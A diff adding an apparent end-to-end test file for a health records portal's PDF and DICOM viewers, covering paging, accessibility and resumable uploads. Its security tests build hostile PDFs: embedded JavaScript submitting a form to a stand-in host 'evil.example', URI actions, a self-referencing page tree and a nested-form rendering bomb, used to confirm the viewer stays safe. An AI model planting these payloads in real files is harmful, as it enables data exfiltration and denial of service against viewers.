@@ -1,0 +1,250 @@
+import { writeFile } from 'node:fs/promises'
+import { join } from 'node:path'
+import type { Locator, Route } from 'playwright-core'
+import { afterAll, beforeAll, expect, inject, test } from 'vitest'
+import { aDicom, anImage, encapsulated } from '../drawing/aDicom'
+import { aPdf, pagesOf } from '../drawing/aPdf'
+import type { Person } from './browser'
+import { Cast, desktop, phone, pictureFailures } from './cast'
+
+const megabyte = 1_048_576
+const elsewhere = 'http://evil.example'
+const script = `app.alert(1); this.submitForm('${elsewhere}/x'); globalThis.harmed = 1`
+
+let cast: Cast
+let patient: Person
+
+beforeAll(async () => {
+  cast = await Cast.begin(inject('network'))
+  patient = await cast.patient('Wilhelmina Oyelaran', desktop)
+})
+afterAll(() => cast?.end())
+pictureFailures(() => cast)
+
+// spec portal 9.2
+test('a PDF is read page by page, by keyboard too, with its words for whoever sees none', async () => {
+  await write('letter.pdf', 'application/pdf', pagesOf(3, 'Discharge letter'))
+  const record = await openNewest()
+  await record.getByRole('img', { name: 'Page 1 of 3' }).waitFor()
+  expect(await darkPoints(record.getByRole('img'))).toBeGreaterThan(500)
+  await patient.isAccessible()
+  await record.getByText('The words of page 1').click()
+  await record.getByText('Discharge letter').waitFor()
+  await patient.picture('pdf-desktop')
+  await record.getByRole('button', { name: 'Next page' }).click()
+  await record.getByRole('img', { name: 'Page 2 of 3' }).waitFor()
+  await record.getByRole('group', { name: 'Page of the document' }).focus()
+  await patient.page.keyboard.press('ArrowRight')
+  await record.getByRole('img', { name: 'Page 3 of 3' }).waitFor()
+  await record.getByText('Page 3', { exact: true }).waitFor()
+  expect(await record.getByRole('button', { name: 'Next page' }).isDisabled()).toBe(true)
+  await record.getByLabel('Size').selectOption({ label: '200 %' })
+  await record.getByText('Drawing the page').waitFor({ state: 'detached' })
+  await patient.page.setViewportSize(phone)
+  await patient.isAccessible()
+  await patient.picture('pdf-phone')
+  await patient.page.setViewportSize(desktop)
+})
+
+// spec portal 9.2
+test('a PDF that a FHIR document carries is read as well', async () => {
+  const attachment = {
+    contentType: 'application/pdf', title: 'Operation report', data: pagesOf(2, 'Knee').toString('base64'),
+  }
+  await write('report.json', 'application/fhir+json', JSON.stringify({
+    resourceType: 'DocumentReference', status: 'current', content: [{ attachment }],
+  }))
+  const record = await openNewest()
+  await record.getByRole('img', { name: 'Page 1 of 2' }).waitFor()
+  expect(await darkPoints(record.getByRole('img'))).toBeGreaterThan(200)
+})
+
+// spec portal 9.3
+test.each<[string, Buffer, string]>([
+  ['brings scripts and addresses', pagesOf(1, 'Run me', `/OpenAction << /S /JavaScript /JS (${script}) >> `
+    + `/AA << /WC << /S /URI /URI (${elsewhere}/u) >> >> /Names << /JavaScript << /Names [(a) `
+    + `<< /S /JavaScript /JS (${script}) >>] >> >>`), 'Page 1 of 1'],
+  ['has a page of ten million points', pagesOf(1, 'Far', '', '0 0 10000000 10000000'), 'Page 1 of 1'],
+  ['has an image of 30,000 by 30,000 points', withHugeImage(), 'Page 1 of 1'],
+  ['lists itself among its pages', aPdf(['<< /Type /Catalog /Pages 2 0 R >>',
+    '<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 1000000 >>']), 'This PDF cannot be read here'],
+  ['is none', Buffer.from(`<script>${script}</script>`), 'This PDF cannot be read here'],
+])('a PDF that %s does no harm', async (_, pdf, shown) => {
+  await write('hostile.pdf', 'application/pdf', pdf)
+  const record = await openNewest()
+  await record.getByRole('img', { name: shown }).or(record.getByText(shown)).waitFor()
+  await didNoHarm()
+})
+
+// spec portal 9.3
+test('a PDF whose page takes for ever to draw leaves the page alive, and ends with it', async () => {
+  await write('endless.pdf', 'application/pdf', endless())
+  const record = await openNewest()
+  await record.getByText('Drawing the page').waitFor()
+  await expect.poll(() => patient.page.workers().length).toBe(2)
+  await didNoHarm()
+  await patient.goTo('Write a record')
+  await expect.poll(() => patient.page.workers().length).toBe(0)
+})
+
+// spec portal 9.4
+test('a DICOM image is looked at frame by frame, as bright as one wants it', async () => {
+  await write('scan', '', Buffer.from(aScan(64, 3)))
+  const record = await openNewest()
+  const image = record.getByRole('img', { name: 'Image 1 of 3, 64 × 64 points' })
+  await image.waitFor()
+  await record.getByText('CT, Thorax').waitFor()
+  await record.getByText('Oyelaran Wilhelmina').waitFor()
+  const before = await brightness(image)
+  await patient.isAccessible()
+  await patient.picture('dicom-desktop')
+  await record.getByLabel('Image 1 of 3').press('ArrowRight')
+  await record.getByRole('img', { name: 'Image 2 of 3' }).waitFor()
+  await record.getByRole('button', { name: 'All values' }).click()
+  await expect.poll(() => brightness(record.getByRole('img'))).not.toBe(before)
+  await patient.page.setViewportSize(phone)
+  await patient.isAccessible()
+  await patient.picture('dicom-phone')
+  await patient.page.setViewportSize(desktop)
+})
+
+// spec portal 9.5
+test('a DICOM file that cannot be shown says why, and is saved as it is', async () => {
+  const packed = aDicom([...anImage({}), ['7fe00010', 'fragments', encapsulated(new Uint8Array(100))]],
+    '1.2.840.10008.1.2.4.90')
+  await write('packed.dcm', 'application/dicom', Buffer.from(packed))
+  const record = await openNewest()
+  await record.getByText('transfer syntax 1.2.840.10008.1.2.4.90').waitFor()
+  const download = patient.page.waitForEvent('download')
+  await record.getByRole('button', { name: 'Save as a file' }).click()
+  expect((await download).suggestedFilename()).toMatch(/\.dcm$/)
+})
+
+// spec portal 9.4, 9.6, 9.7
+test('a study of 100 MB is sent and looked at in parts, over connections that break', async () => {
+  const study = aScan(512, 200)
+  expect(study.length).toBeGreaterThan(100 * megabyte)
+  const file = join(cast.folder, 'large.dcm')
+  await writeFile(file, study)
+  const { context, page } = patient
+  await patient.goTo('Write a record')
+  await page.getByLabel('Category').selectOption({ label: 'Imaging' })
+  await page.locator('input[type=file]').setInputFiles(file)
+  const parts = await breaking(/\/v1\/uploads\/[^/]+$/, async route =>
+    route.request().method() === 'PATCH' ? route.abort('connectionreset') : route.continue(), 3)
+  await page.getByRole('button', { name: 'Seal and store' }).click()
+  await page.getByText('The connection broke. It goes on by itself').waitFor()
+  await page.getByText('Stored, and final in block').waitFor()
+  expect(parts()).toBeGreaterThan(12)
+  await context.unrouteAll({ behavior: 'wait' })
+
+  const record = await openNewest()
+  // The first connection gives the beginning of it, and nothing more.
+  const fetched = await breaking(/\/v1\/records\/[^?]+\/content$/, async route => {
+    const answer = await route.fetch()
+    await route.fulfill({ response: answer, body: (await answer.body()).subarray(0, 40 * megabyte) })
+  }, 1)
+  await record.getByRole('button', { name: 'Show it here' }).click()
+  await record.getByRole('img', { name: 'Image 1 of 200, 512 × 512 points' }).waitFor()
+  expect(fetched()).toBe(2)
+  await context.unrouteAll({ behavior: 'wait' })
+  await record.getByLabel('Image 1 of 200').press('End')
+  await record.getByRole('img', { name: 'Image 200 of 200' }).waitFor()
+  expect(await brightness(record.getByRole('img'))).toBeGreaterThan(0)
+  await patient.picture('study')
+})
+
+test('no page broke its policy, and nothing left for elsewhere', () => {
+  expect(patient.wrongs.filter(wrong => !wrong.includes('ERR_CONNECTION_RESET'))).toEqual([])
+  expect(patient.sent.filter(sent => sent.startsWith(elsewhere))).toEqual([])
+})
+
+async function write(name: string, mimeType: string, content: string | Buffer): Promise<void> {
+  const { page } = patient
+  await patient.goTo('Write a record')
+  await page.locator('input[type=file]').setInputFiles({ name, mimeType, buffer: Buffer.from(content) })
+  await page.getByLabel('Category').selectOption({ label: 'Imaging' })
+  await page.getByRole('button', { name: 'Seal and store' }).click()
+  await page.getByText('Stored, and final in block').waitFor()
+}
+
+async function openNewest(): Promise<Locator> {
+  await patient.goTo('Records')
+  await patient.page.getByRole('button', { name: 'Imaging' }).first().click()
+  const record = patient.page.getByRole('article')
+  await record.waitFor()
+  return record
+}
+
+async function didNoHarm(): Promise<void> {
+  expect(await patient.page.evaluate(() => 'harmed' in globalThis)).toBe(false)
+  await patient.page.getByRole('heading', { level: 1, name: 'Records' }).waitFor()
+}
+
+/** What befalls the request of that number to such an address; how many there were. */
+async function breaking(
+  address: RegExp, befall: (route: Route) => Promise<void>, number: number,
+): Promise<() => number> {
+  let requests = 0
+  await patient.context.route(address, route => ++requests === number ? befall(route) : route.continue())
+  return () => requests
+}
+
+async function darkPoints(image: Locator): Promise<number> {
+  return (await reds(image)).filter(value => value < 100).length
+}
+
+async function brightness(image: Locator): Promise<number> {
+  return (await reds(image)).reduce((sum, value) => sum + value, 0)
+}
+
+function reds(image: Locator): Promise<number[]> {
+  return image.evaluate((canvas: HTMLCanvasElement) => {
+    const points = canvas.getContext('2d')?.getImageData(0, 0, canvas.width, canvas.height).data
+    return Array.from({ length: canvas.width * canvas.height }, (_, at) => points?.[4 * at] ?? 0)
+  })
+}
+
+// Rings whose values are Hounsfield's, brighter from frame to frame.
+function aScan(side: number, frames: number): Uint8Array<ArrayBuffer> {
+  const values = new Uint16Array(side * side * frames)
+  for (let at = 0; at < values.length; at++) {
+    const [across, down] = [at % side - side / 2, Math.floor(at / side) % side - side / 2]
+    const isBody = across ** 2 + 2 * down ** 2 < side ** 2 / 5
+    const ring = 60 * Math.cos(Math.hypot(across, down) * 24 / side)
+    values[at] = isBody ? 1064 + ring + Math.floor(at / side ** 2) : 24
+  }
+  return aDicom([
+    ...anImage({
+      rows: side, columns: side, frames, stored: 12, more: [
+        ['00081030', 'LO', 'Thorax'], ['00100010', 'PN', 'Oyelaran^Wilhelmina'], ['00281050', 'DS', '40'],
+        ['00281051', 'DS', '400'], ['00281052', 'DS', '-1024'], ['00281053', 'DS', '1'],
+      ],
+    }), ['7fe00010', 'OW', new Uint8Array(values.buffer)],
+  ])
+}
+
+// Forms of forms of forms: a kilobyte that is drawn ten thousand million times.
+function endless(): Buffer {
+  const levels = 10
+  const form = (at: number) => [
+    `/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /X ${at + 1} 0 R >> >>`,
+    '/X Do '.repeat(10),
+  ] as const
+  return aPdf([
+    '<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /XObject << /X 5 0 R >> >> >>',
+    ['', '/X Do'],
+    ...Array.from({ length: levels }, (_, at) => form(5 + at)),
+    ['/Type /XObject /Subtype /Form /BBox [0 0 595 842]', '0 0 595 842 re f'],
+  ])
+}
+
+function withHugeImage(): Buffer {
+  return aPdf([
+    '<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /XObject << /I 5 0 R >> >> >>',
+    ['', '595 0 0 842 0 0 cm /I Do'],
+    ['/Type /XObject /Subtype /Image /Width 30000 /Height 30000 /ColorSpace /DeviceRGB /BitsPerComponent 8', 'x'],
+  ])
+}
